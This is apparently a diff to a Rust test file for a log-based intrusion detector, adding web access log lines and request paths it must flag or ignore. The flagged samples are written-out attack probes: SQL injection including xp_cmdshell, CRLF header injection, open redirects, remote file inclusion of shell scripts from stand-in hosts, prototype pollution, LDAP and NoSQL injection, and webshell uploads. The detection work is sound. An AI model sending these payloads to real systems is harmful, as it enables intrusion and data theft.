@@ -48,6 +48,36 @@ pub const CASES: &[(&str, &str, &str)] = &[
         "Nov 24 01:02:03 web sshd[77]: Accepted publickey for www from 1.2.3.4 port 5 ssh2",
     ),
     (
+        "header-injection-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GPOST / HTTP/1.1" 400 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "POST / HTTP/1.1" 400 5 "-" "x""#,
+    ),
+    (
+        "open-redirect-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /login?next=//evil.example HTTP/1.1" 302 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /login?next=/orders HTTP/1.1" 302 5 "-" "x""#,
+    ),
+    (
+        "remote-file-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?page=http://198.51.100.2/x.txt HTTP/1.1" 404 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?page=about.txt HTTP/1.1" 404 5 "-" "x""#,
+    ),
+    (
+        "object-injection-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?__proto__[a]=1 HTTP/1.1" 404 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET /?proto[a]=1 HTTP/1.1" 404 5 "-" "x""#,
+    ),
+    (
+        "header-content-probe",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET / HTTP/1.1" 200 5 "-" "Mozilla/5.0' AND SLEEP(5)#""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "GET / HTTP/1.1" 200 5 "https://a.example/?q=it%27s" "Mozilla/5.0 (X11) and more""#,
+    ),
+    (
+        "web-method-odd",
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "TRACE / HTTP/1.1" 405 5 "-" "x""#,
+        r#"1.2.3.4 - - [24/Nov/2026:01:02:03 +0000] "PUT /api/orders/7 HTTP/1.1" 200 5 "-" "x""#,
+    ),
+    (
         "ssh-root-password",
         "Nov 24 01:02:03 web sshd[77]: Accepted password for root from 1.2.3.4 port 5 ssh2",
         "Nov 24 01:02:03 web sshd[77]: Accepted publickey for root from 1.2.3.4 port 5 ssh2",
@@ -601,6 +631,100 @@ pub const REQUESTS: &[(&str, &[&str], &[&str])] = &[
         ],
         &["/search?q=a%3B%20drop%20in%3B%20update%20later"],
     ),
+    (
+        "header-injection-probe",
+        &[
+            "/x?q=a%0d%0aSet-Cookie:%20a=b",
+            "/x?q=a%0D%0ASet%2DCookie%3A+a",
+            "/x?q=%E5%98%8A%E5%98%8DLocation:x",
+            "/x?q=%0d%0a%0d%0a%3Cscript%3E",
+            "/x HTTP/1.1\\x0D\\x0ATransfer-Encoding: chunked",
+        ],
+        &["/mail?body=Hello%0D%0A%0D%0AI%20write", "/x?text=a%0D%0Ab", "/x?text=set-cookie:%20a"],
+    ),
+    (
+        "open-redirect-probe",
+        &[
+            "/login?next=//evil.example/",
+            "/login?redirect_to=%2F%2Fevil.example",
+            "/login?url=/%5Cevil.example",
+            "/login?return_to=https:evil.example",
+        ],
+        &[
+            "/login?next=/account",
+            "/login?next=%2Faccount%2Fa",
+            "/login?next=https://app.example/a",
+            "/x?expr=//node[1]",
+        ],
+    ),
+    (
+        "remote-file-probe",
+        &[
+            "/index.php?page=http://198.51.100.2/shell.txt?",
+            "/index.php?lang=https%3A%2F%2Fevil%2Eexample%2Fc99%2Etxt",
+            "/x?file=ftp://198.51.100.2/r.php",
+        ],
+        &[
+            "/x?page=https://app.example/account",
+            "/img?url=https://cdn.example/a.txt",
+            "/view?file=https://cdn.example/a.pdf",
+        ],
+    ),
+    (
+        "object-injection-probe",
+        &[
+            "/x?__proto__[admin]=1",
+            "/x?constructor[prototype][a]=1",
+            "/u?name=*)(uid=*))(|(uid=*",
+            "/u?name=%2A%29%28uid%3D%2A",
+            "/u?name=admin)(%26)",
+            "/x?q=%27%3Breturn%20true%3Bvar%20a",
+            "/x?user[$ne]=1",
+            "/x?user%5B%24regex%5D=.*",
+            "/x?f=%7B%22%24gt%22%3A%22%22%7D",
+        ],
+        &["/x?price[$gt]=5", "/x?f=%7B%22gt%22%3A5%7D", "/docs/prototype", "/x?q=(a)(b)", "/x?e=2*(3)"],
+    ),
+    ("request-encoded-twice", &["/x?f=a%00b"], &["/x?f=a%20000b"]),
+    (
+        "sql-injection-probe",
+        &[
+            "/item?id=1%27",
+            "/item?id=1%22%27&x=2",
+            "/item?id=-1%20OR%202%2B2-3-1%3D0%2B0%2B0%2B1",
+            "/login?user=admin%27%2D%2D%20",
+            "/item?id=1/*%2150000UNION*//*%2150000SELECT*/1%2C2",
+            "/item?id=1+and+exists(table_name+from+information_schema.tables)",
+            "/item?id=1;exec+master..xp_cmdshell+%27id%27",
+            "/item?id=1;waitfor%20delay%20%270:0:5%27",
+        ],
+        &[
+            "/search?q=information_schema%20explained",
+            "/search?q=xp_cmdshell+history",
+            "/search?q=waitfor+delay+meaning",
+            "/issues/?jql=text%20~%20%27login%27%20AND%20created%20%3E%3D%20-7d%20OR%20priority%20=%201",
+            "/u?name=O%27Brien",
+            "/search?q=rock+%27n%27+roll",
+            "/s?height=5'11",
+        ],
+    ),
+    (
+        "code-injection-probe",
+        &[
+            "/x?q=%40%287%2A7%29",
+            "/x?q=require%28%27child%5Fprocess%27%29",
+            "/x?q=<!DOCTYPE+a+[<!ENTITY+b",
+            "/?XDEBUG_SESSION_START=phpstorm",
+        ],
+        &["/calc?e=7*7", "/x?q=doctype"],
+    ),
+    ("path-traversal-probe", &["/x?p=..%3B%2F..%3B%2Fmanager"], &["/x?p=a..%3B"]),
+    (
+        "sensitive-file-probe",
+        &["/wallet.dat", "/prisma/schema.prisma"],
+        &["/group/repo/-/blob/main/.gitignore", "/group/repo/-/raw/main/docker-compose.yml"],
+    ),
+    ("webshell", &["/upload/1.php;.jpg"], &["/upload/1.jpg"]),
 ];
 
 /// Rules on PostgreSQL's log: the file's name, messages that it must find, and some that it must not.
@@ -956,6 +1080,11 @@ pub fn correlated() -> Vec<(&'static str, String, String)> {
         };
         many(count, &line)
     };
+    let web = |n: u32, request: &str, status: u16| {
+        format!("1.2.3.4 - - [24/Nov/2026:01:02:{n:02} +0000] \"{request} HTTP/1.1\" {status} 5 \"-\" \"x\"\n")
+    };
+    let web_refused = |count: u32| many(count, &|n| web(n, "POST /api/login", 401));
+    let web_keys = |count: u32| many(count, &|n| web(n, &format!("GET /api/keys/{n}"), 200));
     let guessed = |count: u32| {
         let line = |n: u32| {
             format!("2026-11-24 01:02:{n:02} UTC [5] FATAL:  password authentication failed for user \"app\"\n")
@@ -972,6 +1101,8 @@ pub fn correlated() -> Vec<(&'static str, String, String)> {
             sshd(0, "Failed password for root from 1.2.3.5") + &sshd(50, "Accepted password for root from 1.2.3.5"),
         ),
         ("ssh-scan", foreign(3), foreign(2)),
+        ("web-login-guessing", web_refused(10), web_refused(9)),
+        ("web-enumeration", web_keys(15), web_keys(14)),
         ("secrets-swept", secret(10), secret(9)),
         ("mass-export", export(20), export(19)),
         ("database-password-guessing", guessed(10), guessed(9)),
